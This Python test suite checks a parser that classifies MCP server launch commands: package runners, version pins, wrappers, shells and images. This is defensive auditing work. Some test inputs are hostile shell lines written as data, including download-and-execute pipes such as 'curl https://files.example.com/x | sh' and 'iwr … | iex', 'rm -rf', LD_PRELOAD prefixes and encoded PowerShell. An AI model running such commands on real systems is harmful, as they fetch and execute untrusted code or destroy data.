from __future__ import annotations

import pytest

from mcp_audit_gate.model import Variable, Word
from mcp_audit_gate.sources import shells
from mcp_audit_gate.sources.launch import Fields, command_string, string_in, understand


def launches(*words: str):
    return understand(Fields(tuple(Word(text, ("args", number)) for number, text in enumerate(words)), transport="stdio"))


SHA = "a" * 40
PACKAGES = [
    # command line -> runner, package name, version, pin
    ("npx -y @acme/docs@1.4.2", "npx", "@acme/docs", "1.4.2", "exact"),
    ("npx @acme/docs", "npx", "@acme/docs", "", "none"),
    ("npx -y docs@latest", "npx", "docs", "latest", "tag"),
    ("npx -y docs@^1.4", "npx", "docs", "^1.4", "range"),
    ("npx -y docs@1", "npx", "docs", "1", "range"),
    ("npx -y docs@1.x", "npx", "docs", "1.x", "range"),
    ("npx -y docs@1.2.3-beta.1+x", "npx", "docs", "1.2.3-beta.1+x", "exact"),
    ("npx --package=docs@1.0.0 cmd", "npx", "docs", "1.0.0", "exact"),
    ("npx -p docs@1.0.0 -c cmd", "npx", "docs", "1.0.0", "exact"),
    ("npx -y --registry https://r.example docs@1.0.0", "npx", "docs", "1.0.0", "exact"),
    ("npx -y alias@npm:@acme/real@2.0.0", "npx", "@acme/real", "2.0.0", "exact"),
    ("npx --no-install docs", "npx", "docs", "", "locked"),
    ("npx ./tool", "npx", "./tool", "", "local"),
    ("npx -y docs@${VERSION}", "npx", "docs", "${VERSION}", "reference"),
    ("npx -y github:acme/docs", "npx", "docs", "", "branch"),
    (f"npx -y github:acme/docs#{SHA}", "npx", "docs", SHA, "commit"),
    ("npx -y acme/docs", "npx", "docs", "", "branch"),
    ("npx -y https://x.example/docs.tgz", "npx", "", "", "url"),
    ("npm exec -y -- docs@1.0.0", "npx", "docs", "1.0.0", "exact"),
    ("npm x docs", "npx", "docs", "", "none"),
    ("pnpx docs@1.0.0", "npx", "docs", "1.0.0", "exact"),
    ("pnpm dlx docs@1.0.0", "pnpm dlx", "docs", "1.0.0", "exact"),
    ("yarn dlx -p docs@1.0.0 cmd", "yarn dlx", "docs", "1.0.0", "exact"),
    ("bunx docs@1.0.0", "bunx", "docs", "1.0.0", "exact"),
    ("bun x docs", "bunx", "docs", "", "none"),
    ("uvx docs==1.2", "uvx", "docs", "1.2", "exact"),
    ("uvx docs@1.2.0", "uvx", "docs", "1.2.0", "exact"),
    ("uvx docs@latest", "uvx", "docs", "latest", "tag"),
    ("uvx docs", "uvx", "docs", "", "none"),
    ("uvx docs>=1", "uvx", "docs", ">=1", "range"),
    ("uvx docs==1.*", "uvx", "docs", "==1.*", "range"),
    ("uvx docs[cli]==1.2.3rc1", "uvx", "docs", "1.2.3rc1", "exact"),
    ("uvx --python 3.12 --from docs==1.0 cmd", "uvx", "docs", "1.0", "exact"),
    ("uvx --from git+https://git.example/acme/docs cmd", "uvx", "docs", "", "branch"),
    (f"uvx --from git+https://git.example/acme/docs@{SHA} cmd", "uvx", "docs", SHA, "commit"),
    ("uvx --from git+https://git.example/acme/docs@main cmd", "uvx", "docs", "main", "branch"),
    ("uv tool run docs==1.0", "uvx", "docs", "1.0", "exact"),
    ("uv run --with docs==1.0 server.py", "uv run", "docs", "1.0", "exact"),
    ("pipx run --spec docs==1.0 cmd", "pipx run", "docs", "1.0", "exact"),
    ("dnx Acme.Docs@1.2.0", "dnx", "Acme.Docs", "1.2.0", "exact"),
    ("dnx Acme.Docs --yes", "dnx", "Acme.Docs", "", "none"),
    ("dnx Acme.Docs --version 1.2.3 --yes", "dnx", "Acme.Docs", "1.2.3", "exact"),
    ("dnx Acme.Docs --yes --version=1.*", "dnx", "Acme.Docs", "1.*", "range"),
    ("dnx Acme.Docs -- --version 1.2.3", "dnx", "Acme.Docs", "", "none"),
    ("dnx --version 1.2.3 Acme.Docs", "dnx", "Acme.Docs", "1.2.3", "exact"),
    ("npx left@https://files.example.com/left.tgz", "npx", "left", "", "url"),
    (f"npx https://github.com/acme/docs#{SHA}", "npx", "docs", SHA, "commit"),
    ("npx -w tools docs", "npx", "docs", "", "locked"),
    ("npx --before 2026-01-01 docs", "npx", "docs", "", "locked"),
    ("npx --before soon docs", "npx", "docs", "", "none"),
    ("uvx --exclude-newer 2026-01-01 docs", "uvx", "docs", "", "locked"),
    ("deno run --frozen npm:docs", "deno run", "docs", "", "locked"),
    ("go run github.com/acme/docs", "go run", "github.com/acme/docs", "", "locked"),
    ("uv run https://files.example.com/server.py", "uv run", "", "", "url"),
    ("uv run -s https://files.example.com/server.py", "uv run", "", "", "url"),
    ("go run github.com/acme/docs@v1.2.3", "go run", "github.com/acme/docs", "v1.2.3", "exact"),
    ("go run github.com/acme/docs@latest", "go run", "github.com/acme/docs", "latest", "tag"),
    ("deno run -A npm:docs@1.0.0", "deno run", "docs", "1.0.0", "exact"),
    ("deno run jsr:@acme/docs", "deno run", "@acme/docs", "", "none"),
    ("deno run https://deno.example/x@1.2.3/mod.ts", "deno run", "", "", "exact"),
    # wrappers
    ("cmd /c npx -y docs@1.0.0", "npx", "docs", "1.0.0", "exact"),
    ("cmd.exe /d /s /c npx.cmd docs", "npx", "docs", "", "none"),
    ("env A=b npx docs", "npx", "docs", "", "none"),
    ("nice -n 5 timeout 30 npx docs", "npx", "docs", "", "none"),
    ("mise x -- npx docs", "npx", "docs", "", "none"),
    ("op run --env-file=.env -- uvx docs", "uvx", "docs", "", "none"),
    ("doppler run -- npx docs", "npx", "docs", "", "none"),
    ("dotenv -e .env -- npx docs", "npx", "docs", "", "none"),
    ("sudo -u me npx docs", "npx", "docs", "", "none"),
    ("wsl.exe -d Ubuntu npx docs", "npx", "docs", "", "none"),
    ("poetry run npx docs", "npx", "docs", "", "none"),
]


@pytest.mark.parametrize(("line", "runner", "name", "version", "pin"), PACKAGES, ids=[row[0] for row in PACKAGES])
def test_packages(line, runner, name, version, pin) -> None:
    launch = launches(*line.split(" "))[0]
    assert launch.package is not None
    assert (launch.runner, launch.package.name, launch.package.version, launch.package.pin) == (runner, name, version, pin)
    assert launch.shell is None


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("npx -p docs@1.0.0 -p more cmd", ["docs", "more"]),
        ("uvx --with a==1.0,b --with c docs", ["docs", "a", "b", "c"]),
        ("uvx docs --with a", ["docs"]),
        ("pipx run --with a docs", ["docs", "a"]),
        ("uv run --with a==1.0.0,b -w c x.py", ["a", "b", "c"]),
        ("uv run --with a npx docs", ["docs", "a"]),
        ("uv run --with a https://files.example.com/x.py", ["", "a"]),
        ("uv run --with a -m docs", ["a"]),
        ("npx bash -c 'x", ["bash"]),
        ("node server.js", []),
    ],
)
def test_every_package_of_a_launch(line, names) -> None:
    launch = launches(*line.split(" "))[0]
    assert [package.name for package in launch.packages] == names
    assert launch.package == (launch.packages[0] if names else None)


def test_flags_of_npm_and_dnx_behind_the_package_are_the_runners() -> None:
    launch = launches("npm", "exec", "docs", "--registry", "https://npm.example.com", "--port", "1", "--", "--registry", "x")[0]
    assert ("--registry", "https://npm.example.com") in [(option.name, option.value) for option in launch.options]
    assert [word.text for word in launch.arguments] == ["--port", "1", "--", "--registry", "x"]
    assert launches("npx", "docs", "--registry", "x")[0].options == ()
    assert launches("npm", "exec", "--", "docs", "--registry", "x")[0].options == ()
    assert [option.name for option in launches("dnx", "Acme.Docs", "--source", "https://nuget.example.com", "a")[0].options] == ["--source"]


def test_a_bundle_in_the_place_of_a_program() -> None:
    launch = launches("https://git.example.net/acme/box/releases/download/v1.2.3/box.mcpb")[0]
    assert (launch.package.ecosystem, launch.package.version, launch.package.pin, launch.script) == ("mcpb", "1.2.3", "exact", None)


HOSTED = [
    # what a package runs: script, code, shell
    (("npx", "-y", "tsx", "./server.ts"), "./server.ts", None, None),
    (("npx", "tsx@4.0.0", "-e", "1"), None, "1", None),
    (("npx", "-p", "tsx", "tsx", "-e", "1"), None, "1", None),
    (("uvx", "--from", "docs==1.0", "python", "-c", "1"), None, "1", None),
    (("npx", "bash", "-c", "a | b"), None, None, "a | b"),
    (("npx", "-y", "bash", "./run.sh"), "./run.sh", None, None),
    (("npx", "-y", "docs", "server.ts"), None, None, None),
]


@pytest.mark.parametrize(("words", "script", "code", "shell"), HOSTED)
def test_what_a_package_of_an_interpreter_or_a_shell_runs(words, script, code, shell) -> None:
    launch = launches(*words)[0]
    assert [word.text if word else None for word in (launch.script, launch.code, launch.shell)] == [script, code, shell]


@pytest.mark.parametrize(
    "words",
    [
        ("find", ".", "-exec", "sh", "-c", "a; b", ";"),
        ("xargs", "-I{}", "bash", "-c", "a; b"),
        ("uv", "run", "bash", "-c", "a; b"),
        ("nix-shell", "-p", "x", "--run", "a; b"),
        ("script", "-qc", "a; b", "/dev/null"),
        ("runuser", "-u", "me", "-c", "a; b"),
        ("watch", "bash.exe", "-c", "a; b"),
    ],
)
def test_a_string_for_a_shell_among_the_arguments(words) -> None:
    launch = launches(*words)[0]
    assert launch.shell.text == "a; b"
    assert [inner.program for inner in launch.inside] == ["a", "b"]


def test_a_string_for_a_shell_elsewhere_is_not_of_this_machine() -> None:
    assert launches("docker", "run", "box", "sh", "-c", "a; b")[0].shell is None
    assert launches("ssh", "host", "sh", "-c", "a; b")[0].shell is None
    assert string_in((Word("sh", (0,)), Word("-c", (1,)), Word("a; b", (2,)))) == Word("a; b", (2,))
    assert string_in((Word("sh", (0,)), Word("run.sh", (1,)))) is None


def test_a_command_in_a_variable() -> None:
    def read(value):
        words = tuple(Word(text, (number,)) for number, text in enumerate(("sh", "-c", "$RUN")))
        return understand(Fields(words, env=(Variable("RUN", value, ("env", "RUN")),), transport="stdio"))[0]

    assert read("a; b").shell == Word("a; b", ("env", "RUN"))
    assert read("npx docs").package.name == "docs"
    assert read("").program == "$run"


def test_launches_of_the_commands_in_a_string() -> None:
    launch = launches("sh", "-c", "LD_PRELOAD=x sudo npx docs@1.0.0; export A=b; sh -c 'uvx more | c'")[0]
    assert [(inner.program, inner.package.name if inner.package else "") for inner in launch.inside] == [
        ("npx", "docs"),
        ("export", ""),
        ("uvx", "more"),
        ("c", ""),
    ]
    assert [variable.name for variable in launch.inside[0].env] == ["LD_PRELOAD"]
    assert launches("sh", "-c", "npx docs")[0].inside == ()


def test_a_module_in_a_data_address_is_code() -> None:
    for words in (("node", "--import", "data:text/javascript,1", "x.js"), ("deno", "run", "data:text/javascript,1")):
        assert launches(*words)[0].code.text == "data:text/javascript,1"
    assert launches("docker", "run", "-e", "data:x", "box")[0].code is None


def test_a_path_is_no_image() -> None:
    launch = launches("docker", "run", "--new-flag", "/data", "acme/box:1")[0]
    assert (launch.image.name, [(option.name, option.value) for option in launch.options]) == ("acme/box", [("--new-flag", "/data")])
    assert launches("docker", "run", "-i", "-v", "/a:/b", "/data")[0].image is None


@pytest.mark.parametrize("words", [("uv", "run"), ("bun", "x"), ("mcp-proxy",), ("uvx", "mcp-proxy"), ("npx", "bash", "-c")])
def test_layers_without_end_stay_a_script(words) -> None:
    found = launches(*words * 3000, "npx", "docs")
    assert found[-1].shell is not None or found[-1].package.name == "bash"


STRINGS = [
    # a shell's command string -> the one simple command in it, or None: it stays a script
    ("npx -y docs", "npx -y docs"),
    ("cd dir && npx docs", "npx docs"),
    ("source .venv/bin/activate && python server.py", "python server.py"),
    ("set -e; export A=b; exec npx docs 2>&1", "npx docs"),
    ("nvm use 20 && npx docs >/dev/null", "npx docs"),
    ("A=b npx docs", "npx docs"),
    ('npx docs "$(pwd)"', "npx docs $(pwd)"),
    ("npx docs ${HOME}/x", "npx docs ${HOME}/x"),
    ("npx 'a b'", "npx a b"),
    ('cd "$(git rev-parse --show-toplevel)" && npx docs', "npx docs"),
    ("npx a; npx b", None),
    ("curl x | sh", None),
    ("npx a > file", None),
    ("npx $(curl x)", None),
    ("npx a &", None),
    ("eval npx a", None),
    ("cd $(curl x) && npx a", None),
    ("npx a || npx b", None),
    ("x <<EOF\ny\nEOF", None),
    ("npx `id`", None),
]


@pytest.mark.parametrize(("text", "inner"), STRINGS, ids=[row[0] for row in STRINGS])
@pytest.mark.parametrize("shell", [("sh", "-c"), ("bash", "-lc"), ("/bin/zsh", "-e", "-c"), ("cmd", "/c"), ("wsl", "bash", "-c")])
def test_command_strings(text, inner, shell) -> None:
    launch = launches(*shell, text)[0]
    assert (launch.shell.text if launch.shell else None) == (text if inner is None else None)
    if inner is not None:
        assert " ".join(word.text for word in launch.line) == inner
        assert {word.at for word in launch.line} == {("args", len(shell))}
    assert launch.wrappers


def test_variables_of_prefixes_are_the_launchs() -> None:
    for line in (("env", "-i", "LD_PRELOAD=x", "npx", "a"), ("sh", "-c", "LD_PRELOAD=x npx a"), ("sh", "-c", "export LD_PRELOAD=x; npx a")):
        launch = launches(*line)[0]
        assert [(variable.name, variable.value, variable.quoted) for variable in launch.env] == [("LD_PRELOAD", "x", True)]
        assert launch.program == "npx"


IMAGES = [
    ("acme/box", ("acme/box", "", "")),
    ("acme/box:1.2", ("acme/box", "1.2", "")),
    ("ghcr.io:443/acme/box:1@sha256:00", ("ghcr.io:443/acme/box", "1", "sha256:00")),
    ("localhost:5000/box", ("localhost:5000/box", "", "")),
    ("acme/box:${TAG}", ("acme/box", "${TAG}", "")),
    ("${IMAGE}", ("${IMAGE}", "", "")),
]


@pytest.mark.parametrize(("text", "parts"), IMAGES)
def test_images(text, parts) -> None:
    line = ("docker", "--context", "x", "run", "-i", "--rm", "-e", "A=b", "-v", "/a:/b:ro", "--network=none", "--name", "x", text, "--flag", "y")
    for words in (line, ("podman", *line[3:]), ("docker", "container", *line[3:])):
        launch = launches(*words)[0]
        assert launch.runner == "docker run"
        assert launch.image[:3] == parts
        assert [word.text for word in launch.arguments] == ["--flag", "y"]
        assert ("-v", "/a:/b:ro") in [(option.name, option.value) for option in launch.options]


def test_docker_without_run_has_no_image() -> None:
    for words in (("docker", "mcp", "gateway", "run"), ("docker", "compose", "up"), ("docker", "exec", "-i", "x", "y")):
        assert launches(*words)[0].image is None


PROGRAMS = [
    (("node", "./server.js", "--x"), "script", "./server.js"),
    (("node", "--import", "tsx", "server.ts"), "script", "server.ts"),
    (("node", "-e", "1"), "code", "1"),
    (("node", "--eval=1"), "code", "1"),
    (("python3.12", "-u", "server.py"), "script", "server.py"),
    (("python", "-c", "print()"), "code", "print()"),
    (("python", "-Ic", "print()"), "code", "print()"),
    (("python3", "-ucprint()"), "code", "print()"),
    (("python", "-Wonce", "server.py"), "script", "server.py"),
    (("perl", "-we", "1"), "code", "1"),
    (("perl", "-Ilib/perl", "server.pl"), "script", "server.pl"),
    (("ruby", "-rbundler/setup", "server.rb"), "script", "server.rb"),
    (("ruby", "-ne1"), "code", "1"),
    (("node", "-pe", "1"), "code", "1"),
    (("php", "-d", "a=b", "-r1"), "code", "1"),
    (("python", "-m", "pkg"), "script", None),
    (("uv", "run", "server.py"), "script", "server.py"),
    (("uv", "--directory", "x", "run", "server.py"), "script", "server.py"),
    (("uv", "run", "python", "-c", "1"), "code", "1"),
    (("deno", "eval", "1"), "code", "1"),
    (("bun", "run", "x.ts"), "script", "x.ts"),
    (("bash", "./run.sh", "a"), "script", "./run.sh"),
    (("pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", "run.ps1"), "script", "run.ps1"),
    (("./bin/server",), "script", "./bin/server"),
    (("php", "artisan", "boost:mcp"), "script", "artisan"),
    (("php", "-r", "1"), "code", "1"),
    (("osascript", "-l", "JavaScript", "-e", "1"), "code", "1"),
    (("lua5.4", "-e", "1"), "code", "1"),
    (("R", "--slave", "-e", "1"), "code", "1"),
    (("julia", "--project=.", "server.jl"), "script", "server.jl"),
    (("dotnet", "run", "--project", "src/x"), "script", "src/x"),
    (("java", "-jar", "x.jar"), "script", "x.jar"),
]


@pytest.mark.parametrize(("words", "field", "text"), PROGRAMS, ids=[" ".join(row[0]) for row in PROGRAMS])
def test_scripts_and_code(words, field, text) -> None:
    found = getattr(launches(*words)[0], field)
    assert (found.text if found else None) == text


URL = "https://mcp.example.com/v1"


@pytest.mark.parametrize(
    "words",
    [
        ("npx", "-y", "mcp-remote@0.1.37", URL, "--header", "Authorization: x"),
        ("npx", "-y", "mcp-remote@0.1.37", "--resource", "https://other.example.com", URL),
        ("npx", "-y", "supergateway@3.0.0", "--sse", URL),
        ("npx", "-y", "supergateway@3.0.0", f"--streamableHttp={URL}"),
        ("uvx", "mcp-proxy==0.8.0", "--transport", "streamablehttp", URL),
        ("mcp-proxy", URL),
    ],
)
def test_proxies_are_read_as_the_address_they_wrap(words) -> None:
    (launch,) = launches(*words)
    assert [word.text for word in launch.urls] == [URL]


@pytest.mark.parametrize(
    "words",
    [
        ("npx", "-y", "supergateway@3.0.0", "--stdio", "npx -y docs"),
        ("uvx", "mcp-proxy==0.8.0", "--port", "80", "npx", "-y", "docs"),
        ("mcp-proxy", "--", "npx", "-y", "docs"),
    ],
)
def test_proxies_are_read_as_the_command_they_wrap(words) -> None:
    outer, inner = launches(*words)
    assert inner.package is not None
    assert inner.package.name == "docs"
    assert outer.urls == ()


@pytest.mark.parametrize(
    ("first", "program"),
    [("npx -y docs@1.0.0", "npx"), ("C:\\Program Files\\nodejs\\npx.cmd", "npx"), ("/opt/my tools/server --x", "my"), ("uv run server.py", "uv")],
)
def test_a_command_line_in_one_string(first, program) -> None:
    launch = launches(first)[0]
    assert launch.program == program
    assert {word.at for word in launch.line} == {("args", 0)}


def test_a_command_line_in_one_string_that_is_a_script() -> None:
    for text in ("curl x | sh", "npx a && rm -rf b", "npx $(id)"):
        assert launches(text)[0].shell == Word(text, ("args", 0))


def test_wrappers_without_end_stay_a_script() -> None:
    launch = launches(*["env"] * 40, "npx", "a")[0]
    assert launch.shell is not None
    assert launches("env")[0].shell is None


def test_encoded_powershell_stays_a_script() -> None:
    for flag in ("-EncodedCommand", "-enc", "-e", "-ec", "/encodedcommand"):
        launch = launches("powershell", "-NoProfile", flag, "AAAA")[0]
        assert launch.shell is not None
        assert "AAAA" in launch.shell.text


def test_windows_strings_keep_their_backslashes() -> None:
    for words in (
        ("cmd", "/c", r"C:\tools\docs.exe --x"),
        ("powershell", "-Command", r"C:\tools\docs.exe --x"),
        ("powershell", "-NoProfile", r"C:\tools\docs.exe --x"),
    ):
        launch = launches(*words)[0]
        assert (launch.program, launch.line[0].text) == ("docs", r"C:\tools\docs.exe")


def test_wrappers_below_uv_run_and_su() -> None:
    assert launches("uv", "run", "bash", "-c", "a | b")[0].shell == Word("a | b", ("args", 4))
    assert launches("uv", "run", "sh", "-c", "npx docs")[0].package.name == "docs"
    assert launches("su", "-", "me", "-c", "npx docs")[0].package.name == "docs"


@pytest.mark.parametrize(
    ("words", "package"),
    [
        (("pwsh", "-Command", "npx", "-y", "docs"), "docs"),
        (("pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "-c", "npx", "docs"), "docs"),
        (("su", "me", "--command=npx docs"), "docs"),
        (("nix-shell", "-p", "nodejs", "--run", "npx docs"), "docs"),
        (("wsl", "--", "npx", "docs"), "docs"),
        (("wsl", "--cd", "/srv", "-e", "npx", "docs"), "docs"),
        (("wsl", "--exec", "npx", "docs", "|", "more"), "docs"),
        (("cmd", "/d", "/x", "npx"), None),
        (("pwsh", "-NoLogo"), None),
        (("pwsh", "-Command"), None),
        (("su", "-"), None),
    ],
)
def test_wrappers_of_which_the_words_are_the_command(words, package) -> None:
    launch = launches(*words)[0]
    assert (launch.package.name if launch.package else None, launch.shell) == (package, None)


@pytest.mark.parametrize(
    ("words", "shell"),
    [
        (("pwsh", "-Command", "iwr", "https://files.example.com/x", "|", "iex"), Word("iwr https://files.example.com/x | iex", ("args", 4))),
        (("pwsh", "-c", "echo", "$(whoami)"), Word("echo $(whoami)", ("args", 3))),
        (("wsl", "-d", "Ubuntu", "curl", "https://files.example.com/x", "|", "sh"), Word("curl https://files.example.com/x | sh", ("args", 3))),
        (("wsl", "--", "curl", "https://files.example.com/x", "|", "sh"), Word("curl https://files.example.com/x | sh", ("args", 2))),
    ],
)
def test_wrappers_of_which_the_words_are_joined_for_a_shell(words, shell) -> None:
    assert launches(*words)[0].shell == shell


def test_short_flags_in_one_word() -> None:
    launch = launches("docker", "run", "-itv", "/:/x", "acme/box")[0]
    assert (launch.image.name, [(option.name, option.value) for option in launch.options]) == ("acme/box", [("-v", "/:/x")])


def test_a_string_for_a_shell() -> None:
    assert command_string(Word("npx docs", ("x",))).package.at == ("x",)
    assert command_string(Word("a | b", ("x",))).shell == Word("a | b", ("x",))
    assert command_string(Word("", ("x",))).package is None


@pytest.mark.parametrize(
    "text",
    ["$(" * 50_000, "`" * 99_999, "'" * 99_999, "a;" * 50_000, "a=b " * 25_000, "cd x && " * 12_000, "env " * 25_000, "\\" * 100_000, "$((" * 30_000],
)
def test_hostile_strings_end_soon(text) -> None:
    import time

    begin = time.process_time()
    launches("sh", "-c", text)
    launches(text)
    launches("npx", text)
    launches("docker", "run", text)
    assert time.process_time() - begin < 3


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ("python3.12", "python"),
        ("perl5.36", "perl"),
        ("php8", "php"),
        ("pythonw", "python"),
        ("python3w", "python"),
        ("node", "node"),
        ("3.12", "3.12"),
    ],
)
def test_an_interpreter_without_its_version(name: str, plain: str) -> None:
    assert shells.interpreter(name) == plain
